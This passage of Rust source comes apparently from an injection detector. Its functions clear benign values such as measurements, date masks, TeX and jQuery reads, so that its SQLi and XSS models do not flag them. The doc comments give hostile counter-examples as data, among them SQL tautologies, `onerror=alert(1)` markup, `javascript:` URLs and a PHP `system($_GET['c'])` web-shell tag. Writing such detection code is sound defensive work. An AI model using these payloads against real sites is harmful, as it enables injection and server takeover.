    } else if let [b'=', r @ ..] = rest {
        rest = r;
    } else {
        return false;
    }
    // the case flag: `[type="a" i]`
    let rest = rest
        .strip_suffix(b" i")
        .or_else(|| rest.strip_suffix(b" s"))
        .unwrap_or(rest);
    match rest {
        [q @ (b'"' | b'\''), inner @ .., last] if last == q => !inner
            .iter()
            .any(|&c| matches!(c, b'"' | b'\'' | b'<' | b'>' | b'`' | b'\\' | b'(' | b')')),
        _ => !rest.is_empty() && rest.iter().all(|&c| ident(c)),
    }
}

/// Bytes that make a value more than words, numbers and quotes (see [`quote_then_words`]):
/// separators, escapes, comparisons, calls and operators.
static QUOTE_WORDS_NOT: [bool; 256] = crate::byte_set(b";\\`\n\r=()<>|&");

/// Whether every quote in `value` is a prime after a number: feet and inches, minutes and
/// seconds (`1' = 60"`, `5'10"`, `45°30'15"`), with no SQL keyword, comment, terminator,
/// parenthesis or escape. Closing a literal right after a digit and going on with numbers
/// and comparisons leaves the other quotes unpaired in every context (`'1' = 60"'`: the
/// `"` opens a literal that swallows the application's closing quote), so the query is a
/// syntax error; an injection needs a keyword, a comment or a quote that opens a literal
/// after an operator (`1'='1`). For the SQLi model, which reads `1'` and `= 60"` as the
/// halves of `1'='1`. A last parenthetical of plain words and numbers after the primes (`6'
/// 2" (188 cm)`, the metric figure) changes none of this: it follows an unpaired quote, or a
/// literal, where no dialect takes a bracketed list.
pub(crate) fn unit_marks(value: &str) -> bool {
    let mut b = value.trim_ascii().as_bytes();
    if let Some(inner) = b.strip_suffix(b")") {
        if let Some(open) = memchr::memrchr(b'(', inner) {
            let plain = inner[open + 1..]
                .iter()
                .all(|&c| c.is_ascii_alphanumeric() || matches!(c, b' ' | b'.' | b','));
            if !plain {
                return false;
            }
            b = inner[..open].trim_ascii_end();
        }
    }
    if b.len() > 128
        || b.iter().any(|&c| UNIT_NOT[usize::from(c)])
        || memchr::memmem::find(b, b"--").is_some()
        || has_sql_keyword(value)
    {
        return false;
    }
    let mut quotes = 0;
    for (k, &c) in b.iter().enumerate() {
        if matches!(c, b'\'' | b'"') {
            quotes += 1;
            if k == 0 || !b[k - 1].is_ascii_digit() {
                return false;
            }
        }
    }
    quotes > 0
}

/// Whether `value` is measures joined by `or` / `and` and followed by plain words (`1' or 2'
/// long`, `5' and 6' tall`, `10" or 12" wide`): one kind of quote, each a prime right after a
/// number, each `or` / `and` standing between a measure and a number, no other SQL keyword,
/// and at least one plain word after the last prime. Whatever the quotes pair with, every
/// expression the value can form holds only numbers, literals and those two connectives: no
/// column, call, subquery, comment, comparison or separator, so it reads nothing and can only
/// change a condition's truth. In a condition (`WHERE`, `ON`, `HAVING`, `CASE WHEN`, a `SET`
/// or `VALUES` item) the words after the last prime are a literal or a bare name right after
/// a number or a literal (`'1' or 2' long'`, `1 ' or 2' long`), which no dialect accepts
/// there, so the query is rejected; the one place such a tail parses is a select list, as an
/// alias, where `'1' or 2` is a constant column. A tautology needs its last quote to end the
/// condition (`1' or 2'`, `1' or '1'='1`) or a comment after it (`1' or 2' --`): those stay
/// the model's. For the SQLi model, which scores `1' or 2'` as a tautology without reading
/// the words after it.
///
/// ```text
/// "1' or 2' long"  -> true       "1' or 2'"       -> false
/// "5' and 6' tall" -> true       "1' or 2' union" -> false
/// ```
pub(crate) fn measures_joined(value: &str) -> bool {
    let v = value.trim_ascii();
    let b = v.as_bytes();
    if b.len() > 128
        || b.iter().any(|&c| MEASURES_NOT[usize::from(c)])
        || !b.is_ascii()
        || (memchr::memchr(b'\'', b).is_some() && memchr::memchr(b'"', b).is_some())
    {
        return false;
    }
    let Some(last_quote) = b.iter().rposition(|&c| c == b'\'' || c == b'"') else {
        return false;
    };
    // every quote a prime after a number
    for (k, &c) in b.iter().enumerate() {
        if matches!(c, b'\'' | b'"') && (k == 0 || !b[k - 1].is_ascii_digit()) {
            return false;
        }
    }
    let words: Vec<&str> = v.split_ascii_whitespace().take(32).collect();
    if words.len() == 32 {
        return false;
    }
    let is_connective = |w: &str| w.eq_ignore_ascii_case("or") || w.eq_ignore_ascii_case("and");
    let mut connectives = 0;
    for (i, w) in words.iter().enumerate() {
        let wb = w.as_bytes();
        if is_connective(w) {
            // between a measure and a number: `1' or 2'`
            let before = i.checked_sub(1).map(|j| words[j].as_bytes());
            let after = words.get(i + 1).map(|x| x.as_bytes());
            if !before.is_some_and(|x| matches!(x.last(), Some(b'\'' | b'"')))
                || !after.is_some_and(|x| x[0].is_ascii_digit())
            {
                return false;
            }
            connectives += 1;
        } else if wb[0].is_ascii_digit() {
            // a measure or a number: digits, `.`, `,` and primes
            if !wb
                .iter()
                .all(|c| c.is_ascii_digit() || matches!(c, b'.' | b',' | b'\'' | b'"'))
            {
                return false;
            }
        } else {
            // a plain word, with the punctuation that ends a sentence
            let core = w.trim_end_matches(['.', ',', '!', '?']);
            if core.is_empty()
                || !core.bytes().all(|c| c.is_ascii_alphabetic())
                || crate::sqli::is_keyword(core)
            {
                return false;
            }
        }
    }
    // plain words after the last prime: the tail no condition accepts
    let tail = &v[last_quote + 1..];
    connectives > 0
        && tail.starts_with(' ')
        && tail.bytes().any(|c| c.is_ascii_alphabetic())
        && tail
            .bytes()
            .all(|c| c.is_ascii_alphabetic() || matches!(c, b' ' | b'.' | b',' | b'!' | b'?'))
}

/// Bytes that make a value more than measures and words (see [`measures_joined`]):
/// separators, comments, escapes, comparisons, calls and operators.
static MEASURES_NOT: [bool; 256] = crate::byte_set(b";#()[]{}|&@\\/*`=<>+-%^~:$\n\r\t");

/// Whether `value` is a blank input mask (`--/--/----`, `--:--`, `-- . --`): runs of `-`
/// separated by `/`, `.`, `:`, `_` or blanks, with at least one separator, and no letter,
/// digit or quote. Masked date and time pickers send it when a field is left empty. Without
/// a quote it cannot leave a literal, and it holds no operand: in MySQL `--` is a comment
/// only before a blank, so `--/--` is signs and a division with nothing to divide, a syntax
/// error; in the other dialects the first `--` comments out the rest of the line, which is
/// what a lone `--` does, a value the product already leaves alone. For the SQLi model,
/// which scores each `--` as a comment that ends an injected statement.
///
/// ```text
/// "--/--/----" -> true       "'--" -> false
/// "--:--"      -> true       "1--" -> false
/// ```
pub(crate) fn blank_mask(value: &str) -> bool {
    let b = value.trim_ascii().as_bytes();
    b.len() <= 64
        && memchr::memmem::find(b, b"--").is_some()
        && b.iter()
            .any(|&c| matches!(c, b'/' | b'.' | b':' | b'_' | b' '))
        && b.iter()
            .all(|&c| matches!(c, b'-' | b'/' | b'.' | b':' | b'_' | b' '))
        && memchr::memmem::find(b, b"/*").is_none()
}

/// Whether `value` is prose that mentions script (`In JavaScript, alert(1) shows a dialog`,
/// `Call document.getElementById('x')`): two plain words side by side on one line, and
/// nothing that reaches markup, an attribute's value or a URL (no `<`, `=`, `:`, backtick,
/// backslash, brace or slash), with the first quote of each kind followed by a word. Without `<` and `=`
/// the value opens no tag and gives no attribute a value; without `:` it names no scheme.
/// What is left is script: as code, two names side by side with no operator between them
/// are a syntax error (automatic semicolons come only at line breaks), so the whole script
/// is rejected and nothing in it runs; inside a string, a quote that closes it followed by a
/// name is the same error (`'Call document.getElementById('x')'`). For the XSS model, which
/// scores the names of sinks and calls without reading the words around them.
///
/// ```text
/// "In JavaScript, alert(1) shows a dialog" -> true     "alert(1)"           -> false
/// "Call document.getElementById('x')"      -> true     "x onclick=alert(1)" -> false
/// ```
pub(crate) fn script_words_in_prose(value: &str) -> bool {
    let b = value.as_bytes();
    if b.len() > 512 || b.iter().any(|&c| NOT_SCRIPT_PROSE[usize::from(c)]) {
        return false;
    }
    let word = |c: u8| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'$') || c >= 0x80;
    // In a string of either kind, the value's first quote of that kind closes it: a name
    // after it is the syntax error; anything else may go on as script (`')+alert(1)`).
    for q in [b'\'', b'"'] {
        if let Some(k) = memchr::memchr(q, b) {
            let next = b[k + 1..].iter().find(|c| !c.is_ascii_whitespace());
            if !next.copied().is_some_and(word) {
                return false;
            }
        }
    }
    // (`onerror CDATA "alert(1)"`: an XML DTD gives elements that handler by default, no
    // `=` needed; prose with words like `only` is left to the model with it)
    if b.split(|&c| !word(c))
        .any(|w| w.len() > 3 && w[..2].eq_ignore_ascii_case(b"on"))
    {
        return false;
    }
    // Two names separated only by blanks on one line, neither a keyword that takes a name
    // after it or comes after one (`new Image`, `typeof x`, `a in b`).
    b.split(|&c| c == b'\n' || c == b'\r').any(|line| {
        let mut prev: Option<&[u8]> = None;
        let mut i = 0;
        while i < line.len() {
            if !word(line[i]) {
                // (a byte other than a blank between two names may be an operator)
                if !line[i].is_ascii_whitespace() {
                    prev = None;
                }
                i += 1;
                continue;
            }
            let end = line[i..]
                .iter()
                .position(|&c| !word(c))
                .map_or(line.len(), |n| i + n);
            let name = &line[i..end];
            if let Some(p) = prev {
                if !joins_script_words(p)
                    && !joins_script_words(name)
                    && !p[0].is_ascii_digit()
                    && !name[0].is_ascii_digit()
                {
                    return true;
                }
            }
            prev = Some(name);
            i = end;
        }
        false
    })
}

/// Whether the decoded value holds no letter of any script and no square bracket:
/// emoticons and punctuation art (`(>'-')> <('-'<) ^('-')^`, `¯\_(ツ)_/¯` aside, whose `ツ`
/// is a letter). Markup needs a letter after its `<` to open a tag, and a script needs a
/// name to reach anything (a function, a property, a global); the one way to write
/// JavaScript without names, JSFuck's `[]()!+`, builds them from square brackets. So
/// nothing such a value writes into a page runs. For the XSS model, which scores the
/// quotes, brackets and operators of emoticons like a JS-string break-out.
///
/// ```text
/// "(>'-')> <('-'<) ^('-')^" -> true      "'-alert(1)-'" -> false
/// "<3 :-) ;-)"              -> true      "[][(![]+[])[+[]]]" -> false
/// ```
pub(crate) fn letterless(value: &str) -> bool {
    !value
        .chars()
        .any(|c| c.is_alphabetic() || matches!(c, '[' | ']'))
}

/// Whether `value` is TeX math (`\prod_{i=1}^{n} f(i) = f(1) \cdots f(n)`, `\{ f(x) \mid
/// x \in S \}`, `a \le b`): script could only read it as code, where its first backslash is
/// a syntax error, or as the inside of a string, which it cannot leave.
///
/// Proof, context by context. No `'`, `"` or backtick: an attribute or string the value
/// lands in stays open, and it opens no string or template of its own; no `/`: no regex or
/// `//` / `/*` comment opens, and a regex the value lands in stays open; no `<` before a
/// letter, `/`, `!` or `?`: no tag, end tag, `<!--` or processing instruction; no word of
/// more than three letters that starts with `on`: an unquoted attribute it splits into
/// gains no handler; no `${`: a template it lands in gains no expression; and it neither
/// starts with `#!` (a first line a script skips) nor ends with `\` (which would escape the
/// quote that closes the string it lands in). So a script that holds the value holds it as
/// code, or inside one string, regex or template. As code, its first backslash stands
/// outside any string, regex or comment (no `-->` comes before it: that starts a comment
/// at a line's start), and outside one a backslash is only allowed to start a `\u` escape
/// in a name, which it does not: a syntax error, so the whole script is rejected and
/// nothing in it runs. Inside a string, no escape of the value makes a character
/// (`\x3c`, `\u003c`, `\74`: no backslash before `x`, `u` or a digit), so the string is
/// the value's own bytes, backslashes aside, and none of them opens markup when the page
/// writes it. A `javascript:` URL is code; markup needs a `<` before a letter. For the XSS
/// model, which scores the parentheses, braces and `=` of formulas.
///
/// ```text
/// "\prod_{i=1}^{n} f(i) = f(1) f(2) \cdots f(n)" -> true    "\x3cscript\x3e" -> false
/// "\{ f(x) \mid x \in S \}"                     -> true    "alert(1)//\in"  -> false
/// ```
pub(crate) fn tex_in_script(value: &str) -> bool {
    let b = value.as_bytes();
    if b.len() > 1024 || b.last() == Some(&b'\\') || b.starts_with(b"#!") {
        return false;
    }
    let Some(first) = memchr::memchr(b'\\', b) else {
        return false;
    };
    if b.iter().any(|&c| NOT_TEX_SCRIPT[usize::from(c)])
        || memchr::memmem::find(b, b"${").is_some()
        || memchr::memmem::find(&b[..first], b"-->").is_some()
    {
        return false;
    }
    if crate::xss::opens_tag(b) {
        return false;
    }
    // (a backslash before `u` may start a name's escape; before `x`, `u` or a digit it
    // makes a character inside a string)
    if memchr::memchr_iter(b'\\', b).any(|i| {
        b.get(i + 1)
            .is_some_and(|&c| c == b'x' || c == b'u' || c.is_ascii_digit())
    }) {
        return false;
    }
    !b.split(|c| !c.is_ascii_alphanumeric())
        .any(|w| w.len() > 3 && w[..2].eq_ignore_ascii_case(b"on"))
}

/// Bytes that open or close a string, template, regex or comment (see [`tex_in_script`]).
static NOT_TEX_SCRIPT: [bool; 256] = crate::byte_set(b"'\"`/");

/// Bytes that reach markup, an attribute value, a URL or a comment, or escape (see
/// [`script_words_in_prose`]).
static NOT_SCRIPT_PROSE: [bool; 256] = crate::byte_set(b"<=:`\\{}/&%");

/// Whether `w` may stand beside a name in valid script: the XSS grammar's table
/// ([`crate::xss::joins_statement_words`]: `new Image`, `typeof x`, `x in y`, `get x()`),
/// a label after `break`/`continue`, and the control words, which take a parenthesis or a
/// brace (prose that uses them, `if you call alert(1)`, is left to the model).
fn joins_script_words(w: &[u8]) -> bool {
    crate::xss::joins_statement_words(w)
        || matches!(
            w,
            b"break"
                | b"continue"
                | b"catch"
                | b"finally"
                | b"for"
                | b"if"
                | b"super"
                | b"switch"
                | b"this"
                | b"try"
                | b"while"
                | b"with"
        )
}

/// Whether `value` is words with a parenthetical of words (`Select Comfort (Sleep Number)`,
/// `Choose (select all that apply)`, `Select (one) from below`): letters, blanks and
/// sentence punctuation, each `(` after a blank or at the start and closed before the next
/// one opens, with words only inside. Nothing in it can hide structure from a tokenizer (no
/// quote, comment, operator, digit, comma or escape), so the SQL grammar has read all of it
/// and judged it; a bracket after a blank calls nothing. For the SQLi model, which reads
/// SQL's words and a parenthesis as a sub-query or a delay call.
///
/// ```text
/// "Select Comfort (Sleep Number)" -> true      "sleep(5)"             -> false
/// "Choose (select all that apply)" -> true     "(select 1 from dual)" -> false
/// ```
pub(crate) fn parenthetical_prose(value: &str) -> bool {
    let b = value.trim_ascii().as_bytes();
    if b.len() > 256 || memchr::memchr(b'(', b).is_none() {
        return false;
    }
    let mut open = false;
    let mut prev = b' ';
    for &c in b {
        match c {
            b'(' if !open && prev == b' ' => open = true,
            b')' if open && prev.is_ascii_alphabetic() => open = false,
            b'.' | b'!' | b'?' | b':' if !open => {}
            c if c.is_ascii_alphabetic() || c == b' ' => {}
            _ => return false,
        }
        prev = c;
    }
    !open && b.split(|&c| c == b' ').filter(|w| !w.is_empty()).count() >= 3
}

/// Whether `value` opens with three plain words and has nothing that can leave a literal
/// (`How do I SELECT * FROM users WHERE id = 1 in postgres?`, `my favourite union select
/// trick`): no quote, backtick, bracket, backslash, `$`, comment or line break anywhere, and
/// its first three words are names (letters, digits, `_`, no leading digit) joined by blanks
/// only, none a SQL keyword nor a clause word a dialect accepts after a table or column
/// ([`AFTER_ALIAS`]). Without a way out of a literal the value stays text inside one; bare,
/// a name and its alias may stand where a value, column or table goes, and a third name
/// after them is a syntax error in every dialect and every position, so nothing after it
/// runs. The SQL grammar has judged the value in each context; this is for the SQLi model,
/// which scores the SQL a sentence quotes (a question about a query) as an injection.
///
/// ```text
/// "How do I SELECT * FROM t in postgres?" -> true     "admin or 1=1"       -> false
/// "best way to union select two tables"  -> true     "a b union select 1" -> false
/// ```
pub(crate) fn words_before_sql(value: &str) -> bool {
    let b = value.trim_ascii().as_bytes();
    if b.len() > 512
        || b.iter().any(|&c| WORDS_FIRST_NOT[usize::from(c)])
        || memchr::memmem::find(b, b"--").is_some()
        || memchr::memmem::find(b, b"*/").is_some()
    {
        return false;
    }
    let mut i = 0;
    for n in 0..3 {
        let start = i;
        while i < b.len() && (b[i].is_ascii_alphanumeric() || b[i] == b'_' || b[i] >= 0x80) {
            i += 1;
        }
        let word = &b[start..i];
        if word.is_empty()
            || word[0].is_ascii_digit()
            || crate::sqli::is_keyword_bytes(word)
            || AFTER_ALIAS.iter().any(|w| w.eq_ignore_ascii_case(word))
        {
            return false;
        }
        // (the first two words end at blanks: `a, b, c` and `a.b c` are column lists)
        if n < 2 {
            let blanks = b[i..].iter().take_while(|&&c| c == b' ').count();
            if blanks == 0 {
                return false;
            }
            i += blanks;
        }
    }
    true
}

/// Whether `value`'s first quote is an English contraction's apostrophe (`It's 1=1 and
/// 2=2`, `It's 'select' not 'selct'`, `don't 5 stars`): glued between a letter and the
/// suffix `s`, `m`, `t`, `d`, `re`, `ve` or `ll`, then a blank and a number, a quote or a
/// plain word (no SQL keyword, no clause word [`AFTER_ALIAS`]), with an odd number of quotes
/// in all and no double quote, backtick, backslash, `$`, `#`, `;`, brace or comment. In the
/// context that quote closes, the literal is followed by the suffix as a name (an alias at
/// most, none of them an operator in any dialect) and then by a value or a name: a syntax
/// error in every dialect and position, before anything else in the value is read. Bare,
/// an odd count leaves a literal that never ends (the application's own quotes come in
/// pairs); in a double-quoted literal or an identifier it stays text. A break-out puts an
/// operator, a keyword or a comment right after its quote (`x' or so`, `it's union select`):
/// those stay the model's. For the SQLi model, which scores `'s 1=1 and` as a tautology.
///
/// ```text
/// "It's 1=1 and 2=2, simple!" -> true     "x' or 1=1"            -> false
/// "It's 'select' not 'selct'" -> true     "it's union select 1"  -> false
/// ```
pub(crate) fn contraction_then_value(value: &str) -> bool {
    let b = value.as_bytes();
    if b.len() > 512
        || b.iter()
            .any(|&c| matches!(c, b'"' | b'`' | b'\\' | b'$' | b'#' | b';' | b'{' | b'}'))
        || memchr::memmem::find(b, b"--").is_some()
        || memchr::memmem::find(b, b"/*").is_some()
        || memchr::memchr_iter(b'\'', b).count().is_multiple_of(2)
    {
        return false;
    }
    let Some(q) = memchr::memchr(b'\'', b) else {
        return false;
    };
    if q == 0 || !b[q - 1].is_ascii_alphabetic() {
        return false;
    }
    let rest = &b[q + 1..];
    let end = rest
        .iter()
        .position(|c| !c.is_ascii_alphabetic())
        .unwrap_or(rest.len());
    let suffix = &rest[..end];
    if !["s", "m", "t", "d", "re", "ve", "ll"]
        .iter()
        .any(|w| w.as_bytes().eq_ignore_ascii_case(suffix))
    {
        return false;
    }
    let after = &rest[end..];
    if after.first() != Some(&b' ') {
        return false;
    }
    let next = after.trim_ascii_start();
    match next.first() {
        Some(b'\'') => true,
        Some(c) if c.is_ascii_digit() => true,
        Some(c) if c.is_ascii_alphabetic() => {
            let end = next
                .iter()
                .position(|&c| !(c.is_ascii_alphanumeric() || c == b'_'))
                .unwrap_or(next.len());
            let word = &next[..end];
            // (a word glued to a quote could be a literal prefix, `N'…'`; an operator word,
            // `I'd like`, `I'm not`, `it's in`, is prose too: after the alias it is no SQL,
            // where a clause word, `from`, `union`, `or`, may continue a statement)
            next.get(end) != Some(&b'\'')
                && (!crate::sqli::is_keyword_bytes(word)
                    || crate::sqli::is_expression_keyword_bytes(word))
                && !AFTER_ALIAS.iter().any(|w| w.eq_ignore_ascii_case(word))
        }
        _ => false,
    }
}

/// Bytes that can leave or end a literal, an identifier quote or a comment (see
/// [`words_before_sql`]): quotes, backtick, brackets, escapes, dollar quotes, `#` and line
/// breaks.
static WORDS_FIRST_NOT: [bool; 256] = crate::byte_set(b"'\"`[]\\$#\n\r");

/// Clause words the lexer reads as names that may follow a table or column and its alias in
/// some dialect (`FROM t a PARTITION (p0)`, `FROM t FINAL`, `FROM t a USE INDEX (i)`,
/// `ORDER BY a DESC`), so a third word like them continues a statement instead of ending it
/// (see [`words_before_sql`]).
const AFTER_ALIAS: [&[u8]; 36] = [
    b"asc",
    b"desc",
    b"nulls",
    b"values",
    b"exists",
    b"left",
    b"right",
    b"full",
    b"with",
    b"for",
    b"lock",
    b"partition",
    b"sample",
    b"tablesample",
    b"window",
    b"qualify",
    b"final",
    b"prewhere",
    b"connect",
    b"start",
    b"pivot",
    b"unpivot",
    b"lateral",
    b"apply",
    b"straight_join",
    b"ignore",
    b"force",
    b"returning",
    b"over",
    b"filter",
    b"within",
    b"keep",
    b"isnull",
    b"notnull",
    b"format",
    b"settings",
];

/// Whether `value` is one jQuery statement that only reads or restyles the page
/// (`x = $("#id").val();`, `$('.menu').addClass('open')`, `jQuery(document).height()`):
/// an optional assignment to a name, `$(…)` or `jQuery(…)` of `document`, `window`, `this`
/// or a quoted selector with no markup, then calls of [`JQUERY_INERT`] methods whose
/// arguments are quoted words, numbers or names (`attr`, `prop`, `data` and `css` with one
/// argument: they read). No markup reaches the page (a `<` would make `$()` build
/// elements), no URL is followed, and nothing is evaluated, so a second opinion has nothing
/// to find. For the XSS model, which scores `$(`, quotes and `#` as a script injection.
///
/// ```text
/// "x = $(\"#id\").val();"   -> true     "$(\"#x\").html(location.hash)" -> false
/// "$('.nav').toggle()"      -> true     "$('<img src=x onerror=alert(1)>')" -> false
/// ```
pub(crate) fn jquery_read(value: &str) -> bool {
    let mut b = value.trim_ascii().as_bytes();
    if let Some(x) = b.strip_suffix(b";") {
        b = x.trim_ascii_end();
    }
    if b.len() > 256
        || b.iter()
            .any(|&c| matches!(c, b'<' | b'`' | b'\\' | b'\n' | b'\r'))
    {
        return false;
    }
    jquery_statement(b, true)
}

/// One statement of [`jquery_read`] (trimmed, without its `;`). With `handlers`, an event
/// method may take one handler `function(){ … }` whose body is statements of the same kind
/// without handlers (`$('#btn').click(function(){ $(this).hide(); })`): binding it runs
/// nothing, and when the event comes the handler only reads or restyles the page, so the
/// statement reaches no sink either way. A `;` outside a handler's body ends the statement
/// and makes the value more than one.
fn jquery_statement(mut b: &[u8], handlers: bool) -> bool {
    // (`x = `, `var x = `: the result is kept, which runs nothing)
    if memchr::memchr(b'=', b).is_some() {
        match kept_result(b) {
            Some(rest) => b = rest,
            None => return false,
        }
    }
    let Some(rest) = b.strip_prefix(b"$(").or_else(|| b.strip_prefix(b"jQuery(")) else {
        return false;
    };
    let Some(close) = memchr::memchr(b')', rest) else {
        return false;
    };
    let subject = rest[..close].trim_ascii();
    let selector = quoted(subject).is_some_and(|s| {
        s.iter()
            .all(|&c| c.is_ascii_alphanumeric() || b" #.-_:[]=*>~+,^$|".contains(&c))
    });
    if !(selector || matches!(subject, b"document" | b"window" | b"this")) {
        return false;
    }
    let mut b = &rest[close + 1..];
    let mut calls = 0;
    while !b.is_empty() {
        calls += 1;
        let Some(call) = b.strip_prefix(b".") else {
            return false;
        };
        let name_end = call
            .iter()
            .position(|c| !c.is_ascii_alphabetic())
            .unwrap_or(call.len());
        let (name, after) = call.split_at(name_end);
        let Some(args) = after.strip_prefix(b"(") else {
            return false;
        };
        if calls > 8 {
            return false;
        }
        if handlers && JQUERY_EVENTS.contains(&name) {
            if let Some(end) = jquery_handler_call(args) {
                b = &args[end..];
                continue;
            }
        }
        let Some(close) = memchr::memchr(b')', args) else {
            return false;
        };
        let list = args[..close].trim_ascii();
        let count = if list.is_empty() {
            0
        } else {
            list.split(|&c| c == b',').count()
        };
        let reads_only = matches!(name, b"attr" | b"prop" | b"data" | b"css") && count == 1;
        // (`.ready()` with nothing to run does nothing)
        let idle = name == b"ready" && count == 0;
        let plain = list.is_empty()
            || list.split(|&c| c == b',').all(|a| {
                let a = a.trim_ascii();
                quoted(a).is_some_and(|s| {
                    !s.iter()
                        .any(|&c| matches!(c, b'\'' | b'"' | b':' | b'(' | b';'))
                }) || (!a.is_empty()
                    && a.iter()
                        .all(|&c| c.is_ascii_alphanumeric() || c == b'_' || c == b'.'))
            });
        if !plain || !(reads_only || idle || JQUERY_INERT.contains(&name)) {
            return false;
        }
        b = &args[close + 1..];
    }
    true
}

/// jQuery methods that bind a handler to an event (or to the page being ready), which they
/// run only when it comes (see [`jquery_statement`]).
const JQUERY_EVENTS: [&[u8]; 12] = [
    b"ready",
    b"on",
    b"click",
    b"dblclick",
    b"change",
    b"submit",
    b"hover",
    b"keyup",
    b"keydown",
    b"mouseenter",
    b"mouseleave",
    b"input",
];

/// The length of an event method's arguments after its `(`, up to and including its `)`,
/// when they are quoted event names or selectors (`'click'`, `'.row'`) followed by one
/// `function(){ … }` or `function(e){ … }` whose body is [`jquery_statement`]s without
/// handlers, separated by `;`.
fn jquery_handler_call(args: &[u8]) -> Option<usize> {
    let f = memchr::memmem::find(args, b"function")?;
    // (the arguments before the handler: quoted words, nothing to run)
    let before = args[..f].trim_ascii();
    if !before.is_empty() {
        let before = before.strip_suffix(b",")?;
        if !before.split(|&c| c == b',').all(|a| {
            quoted(a.trim_ascii()).is_some_and(|s| {
                !s.is_empty()
                    && s.iter()
                        .all(|&c| c.is_ascii_alphanumeric() || b" #.-_".contains(&c))
            })
        }) {
            return None;
        }
    }
    let rest = args[f + b"function".len()..].trim_ascii_start();
    let rest = rest.strip_prefix(b"(")?;
    let close = memchr::memchr(b')', rest)?;
    let param = rest[..close].trim_ascii();
    if !param
        .iter()
        .all(|&c| c.is_ascii_alphanumeric() || c == b'_')
    {
        return None;
    }
    let rest = rest[close + 1..].trim_ascii_start();
    let body = rest.strip_prefix(b"{")?;
    let end = memchr::memchr(b'}', body)?;
    let (inner, after) = (&body[..end], &body[end + 1..]);
    if memchr::memchr(b'{', inner).is_some()
        || !inner
            .split(|&c| c == b';')
            .map(|s| s.trim_ascii())
            .filter(|s| !s.is_empty())
            .all(|s| jquery_statement(s, false))
    {
        return None;
    }
    let after_trim = after.trim_ascii_start();
    after_trim.strip_prefix(b")")?;
    Some(args.len() - after_trim.len() + 1)
}

/// Whether `value` is a `javascript:` URL that evaluates nothing (`javascript:void(0)`,
/// `javascript:void 0;`), alone or followed by plain words (`javascript:void(0) link`).
/// Followed, or put in a page, a script or an event handler, it runs `void` of a number:
/// nothing; the words after it stand beside an expression with no operator on one line, a
/// syntax error that stops the whole script (the first may not be a word that joins an
/// expression, `in`, `new`, `typeof`…). With no quote, `<`, `=` or brace it opens no markup,
/// attribute or string. For the XSS model, which scores `javascript:` wherever it stands.
///
/// ```text
/// "javascript:void(0) link" -> true     "javascript:void(alert(1))" -> false
/// "javascript:void(0)"      -> true     "javascript:void(0) in new Image" -> false
/// ```
pub(crate) fn void_script_url(value: &str) -> bool {
    let b = value.trim_ascii().as_bytes();
    if b.len() > 128 || b.len() < 11 || !b[..11].eq_ignore_ascii_case(b"javascript:") {
        return false;
    }
    let rest = b[11..].trim_ascii_start();
    let Some(rest) = rest.strip_prefix(b"void") else {
        return false;
    };
    // `void(0)` or `void 0`, a number and nothing else
    let (num, rest) = match rest.trim_ascii_start().strip_prefix(b"(") {
        Some(r) => {
            let Some(close) = memchr::memchr(b')', r) else {
                return false;
            };
            (r[..close].trim_ascii(), &r[close + 1..])
        }
        None => {
            if !rest.first().is_some_and(|c| c.is_ascii_whitespace()) {
                return false;
            }
            let r = rest.trim_ascii_start();
            let end = r
                .iter()
                .position(|c| !c.is_ascii_digit())
                .unwrap_or(r.len());
            (&r[..end], &r[end..])
        }
    };
    if num.is_empty() || !num.iter().all(u8::is_ascii_digit) {
        return false;
    }
    let rest = rest.strip_prefix(b";").unwrap_or(rest);
    if rest.is_empty() {
        return true;
    }
    // words after it: letters only, the first one not joining an expression
    if !rest[0].is_ascii_whitespace() {
        return false;
    }
    let mut words = rest
        .split(|c| c.is_ascii_whitespace())
        .filter(|w| !w.is_empty());
    let Some(first) = words.next() else {
        return true;
    };
    !joins_script_words(first)
        && !rest
            .iter()
            .any(|&c| !(c.is_ascii_alphabetic() || c.is_ascii_whitespace() || b".,!?".contains(&c)))
        && first.iter().all(u8::is_ascii_alphabetic)
}

/// Whether `value` is one server-side template tag that only echoes (`<?php echo $name;
/// ?>`, `<?php echo 'hi'; ?>`, `<?= $title ?>`): it opens with `<?` or `<%`, closes with
/// `?>` or `%>`, and holds no other `<` or `>`, no call, no backtick (PHP's shell operator)
/// and no `=` but a short echo tag's. A browser reads `<?` up to the first `>` as a bogus
/// comment and `<%` as text, a script reads either as a syntax error, and without `=` no
/// attribute can be set where it breaks out of one; the grammars have read the rest. For the
/// XSS model, which scores `<?php` and `$` as markup and script; a tag that calls something
/// (`<?php system($_GET['c']); ?>`, `<?php phpinfo(); ?>`) stays the model's.
///
/// ```text
/// "<?php echo $name; ?>" -> true     "<?php phpinfo(); ?>"       -> false
/// "<%= @user.name %>"    -> true     "<?php echo 1 ?><script>"   -> false
/// ```
pub(crate) fn echo_template_tag(value: &str) -> bool {
    let b = value.trim_ascii().as_bytes();
    let (open, close): (&[u8], &[u8]) = match b.get(..2) {
        Some(b"<?") => (b"<?", b"?>"),
        Some(b"<%") => (b"<%", b"%>"),
        _ => return false,
    };
    if b.len() > 256 || b.len() < 4 || !b.ends_with(close) {
        return false;
    }
    let mut body = &b[open.len()..b.len() - close.len()];
    if let Some(rest) = body.strip_prefix(b"=") {
        body = rest;
    }
    !body
        .iter()
        .any(|&c| matches!(c, b'<' | b'>' | b'(' | b'`' | b'=' | b'\n' | b'\r'))
}

/// Whether `value` is shortcodes and plain text (`[gallery ids="12,34,56"]`, `[caption
/// align="left"]A photo[/caption]`, BBCode's `[b]bold[/b]`, `[color=red]`): bracketed tags
/// a server renders, each a name and attributes. A page reads them as text and a script as
/// an array literal at most; what a renderer could turn into script is excluded: no byte
/// that opens markup, calls or templates (`<`, `>`, `(`, `)`, backtick, `\`, braces), no
/// `on…` attribute name (a handler, should the renderer copy attributes into a tag) and no
/// `:` but an http(s) URL's (`[url=javascript:…]`, `[x href="data:…"]`). For the XSS
/// model, which scores the brackets, `=` and quotes as an attribute injection.
///
/// ```text
/// "[gallery ids=\"12,34,56\"]"                 -> true
/// "[x onload=\"alert`1`\"]", "[url=javascript:location=name]" -> false
/// ```
pub(crate) fn shortcodes(value: &str) -> bool {
    let b = value.trim_ascii().as_bytes();
    if b.len() > 512
        || b.first() != Some(&b'[')
        || b.iter().any(|&c| {
            matches!(
                c,
                b'<' | b'>' | b'(' | b')' | b'`' | b'\\' | b'{' | b'}' | b'\n' | b'\r'
            )
        })
    {
        return false;
    }
    // every `:` starts an http(s) URL's `//` (the scheme's name read backwards)
    let urls_only = memchr::memchr_iter(b':', b).all(|k| {
        b[k + 1..].starts_with(b"//")
